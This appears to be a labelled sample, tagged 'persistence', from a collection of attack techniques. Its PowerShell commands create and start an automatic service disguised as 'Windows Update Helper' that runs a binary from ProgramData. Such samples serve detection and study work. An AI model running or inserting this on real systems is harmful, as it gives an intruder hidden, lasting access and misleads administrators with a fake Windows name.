# description: Creates an automatic service pointing at a binary in ProgramData.
# family: persistence
New-Service -Name 'WinUpdHelper' -DisplayName 'Windows Update Helper' -BinaryPathName 'C:\ProgramData\wuhelper.exe' -StartupType Automatic
Start-Service -Name 'WinUpdHelper'
